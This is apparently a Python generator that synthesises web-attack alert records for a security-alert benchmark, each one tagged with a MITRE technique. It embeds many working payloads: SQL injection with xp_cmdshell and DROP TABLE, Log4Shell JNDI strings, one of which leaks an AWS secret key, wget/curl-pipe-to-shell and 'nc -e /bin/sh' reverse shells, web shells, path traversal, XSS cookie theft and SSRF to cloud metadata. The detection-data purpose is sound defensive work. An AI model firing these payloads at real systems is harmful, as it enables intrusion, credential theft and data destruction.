"""SecAlertBench-like alerts whose payload attacks something."""

from __future__ import annotations

import base64

from generator.families.alerts.secalertbench_record import Request, encoded, get, post, write
from generator.scene import Scene, attack, family
from generator.world import World

_pages = "/product/list /news.php /api/order/query /search /index.php /user/info /page/detail.aspx /cms/article /goods/view /report/data /login.do /api/v1/items".split()
_keys = "id q keyword cid page name type sort userId orderNo catid file".split()
_json = "application/json"


@family("alerts/secalertbench-sql-attack", attack=True, weight=1.5)
def sql_attack(world: World) -> Scene:
    number, wide = world.number(1, 9999), ",".join(str(item) for item in range(1, world.number(3, 12)))
    forms = {
        "SQL Injection — UNION-based SQLi": [f"{number} UNION SELECT {wide}-- -", f"-{number}' union all select {wide},md5({number})#", f"{number}' UnIoN/**/sElEcT/**/null,concat(0x7e,user(),0x7e),null--+", f"1) union select username,password from admin--", "' union select 1,table_name,3 from information_schema.tables where table_schema=database()-- "],
        "SQL Injection — Time-based Blind SQLi": [f"{number} AND SLEEP(5)", f"{number}'; WAITFOR DELAY '0:0:5'--", f"{number}) AND (SELECT 3144 FROM (SELECT(SLEEP(5)))kfqm)", "';SELECT PG_SLEEP(5)--", f"{number}' AND 9=DBMS_PIPE.RECEIVE_MESSAGE(CHR(99),5) AND 'a'='a", f"if(now()=sysdate(),sleep(6),0)/*'XOR(if(now()=sysdate(),sleep(6),0))OR'*/", "1' and benchmark(8000000,md5(1))#"],
        "SQL Injection — Error-based SQLi": [f"{number} and extractvalue(1,concat(0x7e,(select database())))", f"{number}' and updatexml(1,concat(0x7e,md5({number}),0x7e),1)--+", "1' AND 1=CONVERT(int,(SELECT @@version))--", "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)", "'||ctxsys.drithsx.sn(1,(select banner from v$version where rownum=1))||'"],
        "SQL Injection — Union/Boolean SQLi": [f"{number}' AND '1'='1", f"{number} and 7731=7731-- ", f"{number}' AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>64--", "1' or (select count(*) from sysobjects)>0--", f"{number}' rlike (select (case when (1=1) then 1 else 0x28 end))-- a"],
        "SQL Injection — Authentication Bypass SQLi": ["admin' or '1'='1'-- ", "' or 1=1#", "admin'--", "') or ('a'='a", "1' or true limit 1-- -"],
        "SQL Injection — OS Command via SQLi": ["1;exec master..xp_cmdshell 'whoami'--", "1';EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE--", "1' into outfile '/var/www/html/x.php' fields terminated by '<?php eval($_POST[1]);?>'#", "';COPY cmd_exec FROM PROGRAM 'id';--"],
        "SQL Injection — Destructive SQLi": ["1; DROP TABLE users--", "1';delete from t_order where 1=1;--", "1;truncate table sys_log;--"],
    }
    threat = world.pick(list(forms))
    values = forms[threat]

    def form() -> Request:
        page, key, value = world.pick(_pages), world.pick(_keys), world.pick(values)
        return world.pick([lambda: get(page, f"{key}={encoded(world, value)}"), lambda: post(page, f"{key}={encoded(world, value)}&page=1"), lambda: post(page, '{"%s":"%s","pageSize":10}' % (key, value), _json), lambda: get(page, f"page=1&{key}={encoded(world, value)}&size=20")])()

    return write(world, ("sql", "sql", "sql", "other"), [form], attack(threat, "T1190", severity=world.pick(["HIGH", "CRITICAL"])))


@family("alerts/secalertbench-code-attack", attack=True)
def code_attack(world: World) -> Scene:
    address, number = world.ip_public(), world.number(10000, 99999)
    jndi = world.pick([f"${{jndi:ldap://{address}:1389/a}}", f"${{${{lower:j}}ndi:${{lower:l}}dap://{address}/{world.word(4)}}}", f"${{jndi:rmi://{world.word(8)}.dnslog.cn/x}}", f"${{jndi:dns://{address}/${{env:AWS_SECRET_ACCESS_KEY}}}}"])
    forms = [
        lambda: get(world.pick(_pages), "", X_Api_Version=jndi), lambda: post("/login", f"username={encoded(world, jndi)}&password=1"), lambda: get("/", f"x={encoded(world, jndi)}"),
        lambda: get("/index.php", f"s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]={number}"), lambda: post("/index.php?s=captcha", f"_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]={world.pick(['id', 'whoami', 'cat /etc/passwd'])}"),
        lambda: post("/functionRouter", "x", "text/plain", spring_cloud_function_routing_expression='T(java.lang.Runtime).getRuntime().exec("id")'), lambda: post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", f"<?php echo md5({number});?>", "text/plain"),
        lambda: post("/struts2-showcase/index.action", "a=1", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"), lambda: post("/solr/core/config", '{"update-queryresponsewriter":{"params.resource.loader.enabled":"true","solr.resource.loader.enabled":"true"}}', _json),
        lambda: post("/api/parse", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://%s/x","autoCommit":true}' % address, _json), lambda: post("/wls-wsat/CoordinatorPortType", "<soapenv:Envelope><work:WorkContext><java><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><string>/bin/bash</string></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Envelope>", "text/xml"),
        lambda: get("/search", "q=" + encoded(world, world.pick(["{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${T(java.lang.System).getenv()}", "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}"]))), lambda: post("/scriptText", "script=" + encoded(world, "println 'id'.execute().text")),
        lambda: get("/a.php", f"1=@eval(base64_decode({base64.b64encode(b'system(id);').decode()}));"), lambda: post("/", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI/QAAAAAAAAXNyADRvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMua2V5dmFsdWUuVGllZE1hcEVudHJ5", "application/x-java-serialized-object"),
    ]
    return write(world, ("code", "code", "command", "other"), forms, attack("Remote Code Execution Exploit", "T1190", "T1059", severity=world.pick(["HIGH", "CRITICAL"])))


@family("alerts/secalertbench-command-attack", attack=True)
def command_attack(world: World) -> Scene:
    address = world.ip_public()
    command = world.pick(["id", "whoami", "cat /etc/passwd", f"wget http://{address}/m.sh -O /tmp/m.sh;sh /tmp/m.sh", f"curl {address}/x|bash", "uname -a", f"ping -c 3 {world.word(8)}.ceye.io", "ifconfig", "type C:\\windows\\win.ini", f"nc -e /bin/sh {address} 4444", "expr 8321 + 2219", "busybox wget -g"])
    glue = world.pick([";", "|", "||", "&&", "`{}`", "$({})", "%0a", "\n"])
    value = glue.format(command) if "{}" in glue else f"{world.pick(['127.0.0.1', '1', 'a', ''])}{glue}{command}"
    forms = [
        lambda: get(world.pick(["/cgi-bin/luci/;stok=/locale", "/ping.cgi", "/cgi-bin/mainfunction.cgi", "/boaform/admin/formPing", "/api/diag"]), f"{world.pick(['ip', 'host', 'country', 'target_addr', 'action'])}={encoded(world, value)}"),
        lambda: post(world.pick(["/goform/set_LimitClient_cfg", "/HNAP1/", "/apply.cgi", "/guest_auth/guestIsUp.php", "/tools/ping"]), f"{world.pick(['mac', 'ip', 'pingIp', 'cmd'])}={encoded(world, value)}"),
        lambda: get("/cgi-bin/status", "", User_Agent=f"() {{ :;}}; echo; /bin/bash -c \"{command}\""), lambda: get("/cgi-bin/test.cgi", "", Referer=f"() {{ foo;}}; echo vulnerable; {command}"),
        lambda: post("/api/convert", '{"file":"a.png%s"}' % value.replace('"', ""), _json), lambda: post("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", f"echo Content-Type: text/plain; echo; {command}", "text/plain"),
        lambda: get("/shell.jsp", f"cmd={encoded(world, command)}"), lambda: get("/language/Swedish${IFS}&&" + command.replace(" ", "${IFS}")),
    ]
    return write(world, ("command", "command", "code"), forms, attack("OS Command Injection Attempt", "T1059.004", "T1190", severity="CRITICAL"))


@family("alerts/secalertbench-traversal-attack", attack=True)
def traversal_attack(world: World) -> Scene:
    dots = world.pick(["../", "..%2f", "%2e%2e/", "....//", "..\\", "%252e%252e%252f", "..%c0%af", "..;/", "%2e%2e%5c"])
    target = world.pick(["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "WEB-INF/web.xml", "proc/self/environ", "root/.bash_history", "etc/hosts", "var/log/apache2/access.log", "usr/local/tomcat/conf/tomcat-users.xml"])
    path = dots * world.number(2, 12) + target
    answer = "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin" if "passwd" in target else None
    forms = [lambda: Request("GET", world.pick(["/static/", "/icons/", "/public/plugins/graph/", "/cgi-bin/", "/", "/help/", "/images/"]) + path, answer=answer), lambda: Request("GET", f"{world.pick(['/download', '/view.php', '/index.jsp', '/seeyon/webmail.do', '/file/preview', '/report'])}?{world.pick(['file', 'filename', 'path', 'page', 'name', 'template'])}={path}{world.pick(['', '%00.jpg', '%00'])}", answer=answer), lambda: post("/api/file/read", '{"path":"%s"}' % path.replace("\\", "\\\\"), _json)]
    lfi = [lambda: get("/index.php", f"page={world.pick(['php://filter/convert.base64-encode/resource=config', 'file:///etc/passwd', 'expect://id', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==', '/proc/self/environ', 'zip:///tmp/a.jpg%23a'])}")]
    if world.chance(0.2):
        return write(world, ("traversal", "leak", "download"), lfi, attack("Local File Inclusion (LFI) Attack", "T1083", severity="HIGH"))
    return write(world, ("traversal", "traversal", "download", "leak"), forms, attack("Path Traversal / Directory Traversal Attack", "T1083", severity="HIGH"))


@family("alerts/secalertbench-probe-attack", attack=True, weight=1.5)
def probe_attack(world: World) -> Scene:
    """Files and consoles that nobody asks for but a scanner."""
    files = "/.git/config /.git/HEAD /.env /.env.bak /.svn/entries /.svn/wc.db /WEB-INF/web.xml /backup.sql /www.zip /wwwroot.rar /db.sql.gz /config.php.bak /.DS_Store /web.config.bak /id_rsa /.ssh/id_rsa /.aws/credentials /.htpasswd /phpinfo.php /info.php /test.php /actuator/env /actuator/heapdump /env /jolokia/list /console/login/LoginForm.jsp /manager/html /solr/admin/cores?wt=json /nacos/v1/auth/users?pageNo=1&pageSize=9 /wp-config.php~ /.vscode/sftp.json /owa/auth/x.js /CFIDE/administrator/enter.cfm /debug/pprof/heap /trace /robots.txt~ /HNAP1 /sdk /evox/about /nmaplowercheck1700000000 /axis2/services/listServices /invoker/JMXInvokerServlet /.well-known/../.env /admin.tar.gz".split()
    forms = [lambda: get(world.pick(files)), lambda: get(world.pick(files)), lambda: Request("HEAD", world.pick(files)), lambda: Request(world.pick(["PUT", "TRACE", "PROPFIND", "DEBUG", "OPTIONS", "CONNECT"]), world.pick([f"/{world.word(6)}.jsp", f"/{world.word(5)}.jsp/", "/WEB-INF/", "/nmaplowercheck1700000000", f"{world.ip_public()}:25"]), world.pick(["", f"{world.word(10)}"]))]
    return write(world, ("leak", "leak", "disclosure", "settings", "tool", "access", "other"), forms, attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", "T1595.003", severity="MEDIUM"))


@family("alerts/secalertbench-password-attack", attack=True)
def password_attack(world: World) -> Scene:
    pairs = [("admin", "admin"), ("admin", "123456"), ("root", "root"), ("admin", "admin123"), ("tomcat", "s3cret"), ("weblogic", "Oracle@123"), ("nacos", "nacos"), ("guest", "guest"), ("admin", "public"), ("test", "test"), ("admin", "12345"), ("sa", "sa"), ("manager", "manager"), ("admin", "12345678"), ("elastic", "changeme")]
    name, word = world.pick(pairs)
    basic = base64.b64encode(f"{name}:{word}".encode()).decode()
    forms = [lambda: get(world.pick(["/manager/html", "/ISAPI/Security/userCheck", "/cgi-bin/magicBox.cgi", "/host-manager/html", "/api/overview"]), "", Authorization=f"Basic {basic}"), lambda: post(world.pick(["/j_spring_security_check", "/login", "/nacos/v1/auth/users/login", "/druid/submitLogin", "/cgi-bin/login.cgi", "/console/j_security_check"]), world.pick([f"username={name}&password={word}", f"loginUsername={name}&loginPassword={word}", f"j_username={name}&j_password={word}"])), lambda: post("/api/login", '{"user":"%s","password":"%s"}' % (name, word), _json), lambda: post("/RPC2_Login", '{"method":"global.login","params":{"userName":"%s","password":"%s","clientType":"Web3.0"},"id":1}' % (name, word), _json)]
    return write(world, ("password", "password", "settings"), forms, attack("Brute Force Attack", "T1078.001", "T1110.001", severity="HIGH"))


@family("alerts/secalertbench-access-attack", attack=True)
def access_attack(world: World) -> Scene:
    forms = [
        lambda: get(world.pick(["/admin/..;/manager/html", "/;/admin/index", "/login/..;/api/user/list", "/%2e/actuator/env", "/static/..;/admin/config"])), lambda: post("/nacos/v1/auth/users", f"username={world.word(6)}&password={world.word(6)}", User_Agent="Nacos-Server"), lambda: get("/nacos/v1/cs/configs", "search=accurate&dataId=&group=&pageNo=1&pageSize=99&accessToken="),
        lambda: post("/_search", '{"size":1,"script_fields":{"x":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\")"}}}', _json), lambda: get("/wp-admin/admin-ajax.php", "action=duplicator_download&file=../wp-config.php"), lambda: post("/xmlrpc.php", "<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>admin</value></param><param><value>123456</value></param></params></methodCall>", "text/xml"),
        lambda: post("/api/jsonws/invoke", '{"/expandocolumn/update-column":{}}', _json), lambda: post("/mgmt/tm/util/bash", '{"command":"run","utilCmdArgs":"-c id"}', _json, X_F5_Auth_Token="", Connection="keep-alive, X-F5-Auth-Token"), lambda: get("/remote/fgt_lang", "lang=/../../../..//////////dev/cmdb/sslvpn_websession"), lambda: get("/api/v1/pods"), lambda: post("/v1.24/containers/create", '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}', _json), lambda: get("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp"), lambda: get("/autodiscover/autodiscover.json", "a=a@edu.edu/powershell/&Email=autodiscover/autodiscover.json%3fa@edu.edu"),
    ]
    return write(world, ("access", "access", "settings", "disclosure"), forms, attack("Remote Code Execution Exploit", "T1190", severity="HIGH"))


@family("alerts/secalertbench-upload-attack", attack=True)
def upload_attack(world: World) -> Scene:
    name = world.pick(["a.php", "1.jsp", "cmd.aspx", "img.php.jpg", "x.phtml", "test.jspx", "logo.asp;.jpg", ".htaccess", "shell.php5", "up.ashx"])
    code = world.pick(["<?php @eval($_POST['c']);?>", "<?=`$_GET[0]`?>", '<%Runtime.getRuntime().exec(request.getParameter("i"));%>', '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>', "GIF89a<?php system($_REQUEST['x']); ?>", "<?php echo md5(233);unlink(__FILE__);?>", "AddType application/x-httpd-php .jpg"])
    boundary = world.hex(16)
    body = f'--{boundary}\r\nContent-Disposition: form-data; name="{world.pick(["file", "upfile", "Filedata"])}"; filename="{name}"\r\nContent-Type: {world.pick(["image/jpeg", "application/octet-stream", "application/pdf"])}\r\n\r\n{code}\r\n--{boundary}--'
    behinder = base64.b64encode(bytes(world.number(0, 255) for _ in range(world.number(60, 200)))).decode()
    forms = [lambda: post(world.pick(["/upload.php", "/general/file_folder/swfupload_new.php", "/servlet/FileUpload", "/ueditor/php/controller.php?action=uploadfile", "/wp-content/plugins/x/upload.php", "/seeyon/thirdpartyController.do"]), body, f"multipart/form-data; boundary={boundary}"), lambda: Request("PUT", f"/{name}/", code), lambda: post(f"/upload/{name}", f"c=@ini_set('display_errors','0');@set_time_limit(0);echo+md5(1);&z0={behinder}"), lambda: post(f"/uploads/{name}", f"pass=eval(base64_decode(%22{behinder[:60]}%22));")]
    return write(world, ("upload", "upload", "code", "tool"), forms, attack("Web Shell", "T1505.003", "T1190", severity="CRITICAL"))


@family("alerts/secalertbench-script-attack", attack=True)
def script_attack(world: World) -> Scene:
    number = world.number(1, 9999)
    value = world.pick([f"<script>alert({number})</script>", f'"><img src=x onerror=prompt({number})>', "<svg/onload=confirm(document.domain)>", "javascript:alert(document.cookie)", "'-alert(1)-'", "<iframe src=javascript:alert(1)>", f"<ScRiPt >{world.word(4)}({number})</sCrIpT>", f"<script src=//{world.word(6)}.xss.ht></script>", '"onmouseover="alert(1)" x="', "<body onpageshow=fetch('//' + document.cookie)>", "%3Cdetails%20open%20ontoggle=alert(1)%3E"])
    forms = [lambda: get(world.pick(_pages), f"{world.pick(_keys)}={encoded(world, value)}"), lambda: post("/comment/add", f"content={encoded(world, value)}&pid={number}"), lambda: get("/" + encoded(world, value)), lambda: get(world.pick(_pages), "", Referer=f"http://x/{value}")]
    return write(world, ("script", "script", "other", "redirect"), forms, attack("Cross-Site Scripting (XSS) Attempt", "T1059.007", "T1190", severity="HIGH"))


@family("alerts/secalertbench-request-forgery-attack", attack=True)
def request_forgery_attack(world: World) -> Scene:
    inner = world.pick(["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/_FLUSHALL", "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall", "file:///etc/passwd", "dict://127.0.0.1:11211/stats", f"http://{world.word(9)}.dnslog.cn", "http://metadata.google.internal/computeMetadata/v1/", "http://[::1]:22/", "http://100.100.100.200/latest/meta-data/"])
    forms = [lambda: get(world.pick(["/uddiexplorer/SearchPublicRegistries.jsp", "/proxy", "/api/fetch", "/plugins/servlet/gadgets/makeRequest", "/image/load"]), f"{world.pick(['url', 'operator', 'src', 'target', 'u', 'redirect'])}={encoded(world, inner)}"), lambda: post("/api/webhook/test", '{"url":"%s"}' % inner, _json), lambda: post("/xml", f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{inner}">]><a>&b;</a>', "text/xml")]
    return write(world, ("redirect", "other", "access", "leak", "code"), forms, attack("Server-Side Request Forgery (SSRF) Attempt", "T1190", severity="HIGH"))
